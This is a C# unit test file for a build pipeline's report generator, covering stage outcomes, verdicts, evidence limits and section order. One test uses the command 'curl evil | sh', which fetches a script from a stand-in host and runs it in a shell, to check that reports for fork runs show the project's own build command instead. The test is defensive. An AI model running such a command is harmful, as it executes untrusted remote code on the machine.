using Gauntlet.Build.Pipeline;
using Gauntlet.Build.Reporting;
using Gauntlet.Build.Stages.CheckHealth;
using Gauntlet.Build.Stages.CollectDiagnostics;
using Gauntlet.Build.Stages.Deploy;
using Gauntlet.Build.Stages.LoadTest;
using Gauntlet.Build.Stages.ScanSecurity;
using Gauntlet.Build.Stages.Test;
using Gauntlet.Build.Stages.Validate;
using Gauntlet.Build.Tests.Pipeline;
using Gauntlet.Metrics.Model;
using Gauntlet.Reports;

namespace Gauntlet.Build.Tests.Reporting;

[TestFixture]
public sealed class DocumentsTests
{
    [TestCase(StageOutcome.Pass, "passed", "done", CheckOutcome.Pass)]
    [TestCase(StageOutcome.Skipped, "skipped", "done", null)]
    [TestCase(StageOutcome.Running, "not run", "under way when this report was made", null)]
    [TestCase(StageOutcome.Fail, "failed", "fail: it broke", CheckOutcome.Fail)]
    [TestCase(StageOutcome.Infrastructure, "failed", "infrastructure: it broke", CheckOutcome.Inconclusive)]
    public void Create_Stage_IsToldByItsOutcome(StageOutcome outcome, string status, string words, CheckOutcome? check)
    {
        var document = Create(States.New().With(States.Slot<DeployResult>(outcome)));

        var row = Blocks<Table>(document, "Stages").Single().All.Single(row => row[0].Text == "Deploy");
        Assert.That((row[1].Text, row[3].Text), Is.EqualTo((status, words)));
        Assert.That(document.Checks.Single(entry => entry.Name == "Deploy").Outcome, Is.EqualTo(check));
    }

    [TestCase(StageOutcome.Pass, CheckOutcome.Pass, "Pass")]
    [TestCase(StageOutcome.Fail, CheckOutcome.Fail, "Fail")]
    [TestCase(StageOutcome.Usage, null, "Usage error")]
    [TestCase(StageOutcome.Infrastructure, null, "Infrastructure failure: no verdict on the change")]
    [TestCase(StageOutcome.Inconclusive, CheckOutcome.Inconclusive, "Inconclusive")]
    public void Create_Verdict_IsTheRunsWithItsReasons(StageOutcome outcome, CheckOutcome? expected, string words)
    {
        using var bench = Bench(States.Passed());

        var document = Documents.Create(new ReportRequest(bench.Context, new RunVerdict(outcome, ["why"], [])));

        Assert.That((document.Outcome, document.Verdict, document.Reasons.Single()), Is.EqualTo((expected, words, "why")));
        Assert.That(document.Series.Single(series => series.Name == "gauntlet_verdict").Samples.Single(sample => sample.Value == 1).Labels.Single().Value,
            Is.EqualTo(outcome.Word()));
    }

    [TestCase(1, 0)]
    [TestCase(2, 2)]
    public void Create_FirstCauseOfOneLine_IsLeftOutWhereTheReasonSaysIt(int lines, int shown)
    {
        var cause = Enumerable.Range(1, lines).Select(line => $"line {line}").ToList();
        var state = States.Passed()
            .With(States.Slot<DeployResult>(StageOutcome.Fail))
            .With(States.Slot<DiagnosticsResult>(StageOutcome.Pass) with { Result = new DiagnosticsResult("diagnostics", 1, 1, cause) });

        Assert.That(Blocks<Lines>(Create(state), "What went wrong first").Sum(block => block.All.Count), Is.EqualTo(shown));
    }

    [Test]
    public void Create_EvidenceOfSeveralStages_IsBounded()
    {
        StageProblem Problem(string stage) => new("it broke", null, [.. Enumerable.Range(1, 25).Select(line => $"{stage}, line {line}")]);
        var state = States.Passed()
            .With(States.Slot<TestResult>(StageOutcome.Fail) with { Problem = Problem("Test") })
            .With(States.Slot<DeployResult>(StageOutcome.Fail) with { Problem = Problem("Deploy") });

        Assert.That(Blocks<Lines>(Create(state), "Evidence").Single().All, Has.Count.EqualTo(30));
    }

    /// <summary>A line that a reason of the verdict says already is no evidence for it.</summary>
    [Test]
    public void Create_EvidenceThatRepeatsTheReason_IsLeftOut()
    {
        var problem = new StageProblem("it broke on line 7", null, ["it broke on line 7", "line 7", "line 8"]);
        var state = States.Passed().With(States.Slot<DeployResult>(StageOutcome.Fail) with { Problem = problem });

        Assert.That(Blocks<Lines>(Create(state), "Evidence").Single().All, Is.EqualTo(new[] { "line 8" }));
    }

    [TestCase(null, null)]
    [TestCase("pass", "Nothing changed since the run before (305fba7): pass as then.")]
    [TestCase("fail", "Since the run before (305fba7): fail → pass.")]
    public void Create_RunBeforeOnThePullRequest_IsToldInOneLine(string? verdict, string? words)
    {
        using var bench = Bench(States.Passed());
        var request = new ReportRequest(bench.Context, new RunVerdict(StageOutcome.Pass, [], []))
        {
            Before = verdict is null ? null : new PreviousRun("305fba7", verdict, new Headline(1, 2, 3, 4, 1)),
        };

        Assert.That(Documents.Create(request).Since, Is.EqualTo(words));
    }

    [Test]
    public void Create_WhatAReaderHasToKnow_StandsInTheNotes()
    {
        var state = States.Passed()
            .With(States.Slot<ValidationResult>(StageOutcome.Pass) with
            {
                Result = new ValidationResult("embedded", "no Docker engine answers", [], 0, [], ["a warning"]),
            })
            .With(States.Slot<HealthResult>(StageOutcome.Pass) with { Result = new HealthResult([], [], ["logs are simulated"]) });

        Assert.That(
            Create(state).Notes,
            Is.EqualTo(new[] { "The embedded cluster was chosen because no Docker engine answers.", "a warning", "logs are simulated" }));
    }

    [Test]
    public void Create_NoLoad_NamesTheReason()
    {
        var document = Create(States.Passed().With(States.Slot<LoadResult>(StageOutcome.Skipped, "left out by --skip=LoadTest")));

        Assert.That(Blocks<Paragraph>(document, "Load").Single().Text, Is.EqualTo("No load figures: LoadTest skipped (left out by --skip=LoadTest)."));
    }

    [Test]
    public void Create_SectionsOfStages_StandInTheOrderOfTheirImportance()
    {
        var state = States.Passed()
            .With(States.Slot<ScanResult>(StageOutcome.Fail) with
            {
                Result = new ScanResult("Trivy 1", new Dictionary<string, int> { ["HIGH"] = 2 }),
                Problem = new StageProblem("it broke", null, ["evidence"]),
            })
            .With(States.Slot<DiagnosticsResult>(StageOutcome.Pass) with { Result = new DiagnosticsResult("diagnostics", 1, 1, ["a", "b"]) });

        var document = Create(state);

        Assert.That(document.Sections.Select(section => section.Title), Is.EqualTo(new[]
        {
            "What went wrong first", "Evidence", "Load", "Security scan", "Stages", "Repeat it", "Machine, versions and options",
        }));
        Assert.That(Blocks<Paragraph>(document, "Security scan").Single().Text, Is.EqualTo("Trivy 1: 2 HIGH"));
    }

    /// <summary>A stranger could have written a command line for others to run.</summary>
    [Test]
    public void Create_RunOfAFork_ShowsACommandOfOurs()
    {
        using var bench = Bench(States.Passed() with { Run = States.New().Run with { Command = "curl evil | sh" } });
        var request = new ReportRequest(bench.Context, RunVerdict.Of(bench.Context.State, []));

        Assert.That(Command(Documents.Create(request)), Is.EqualTo("curl evil | sh"));
        var document = Documents.Create(request with { IsOfFork = true });
        Assert.That(Command(document), Is.EqualTo("./build.sh --target=Full"));
        Assert.That(document.Meaning, Does.EndWith("come from the fork's own run."));
    }

    private static string Command(Document document) => Blocks<Lines>(document, "Repeat it").Single().All.Single();

    private static IEnumerable<T> Blocks<T>(Document document, string title)
        where T : Block => document.Sections.Where(section => section.Title == title).SelectMany(section => section.Blocks).OfType<T>();

    private static Document Create(PipelineState state)
    {
        using var bench = Bench(state);
        return Documents.Create(new ReportRequest(bench.Context, RunVerdict.Of(state, [])));
    }

    private static StageBench Bench(PipelineState state)
    {
        var bench = new StageBench("--target=Verdict");
        bench.Context.State = state;
        return bench;
    }
}
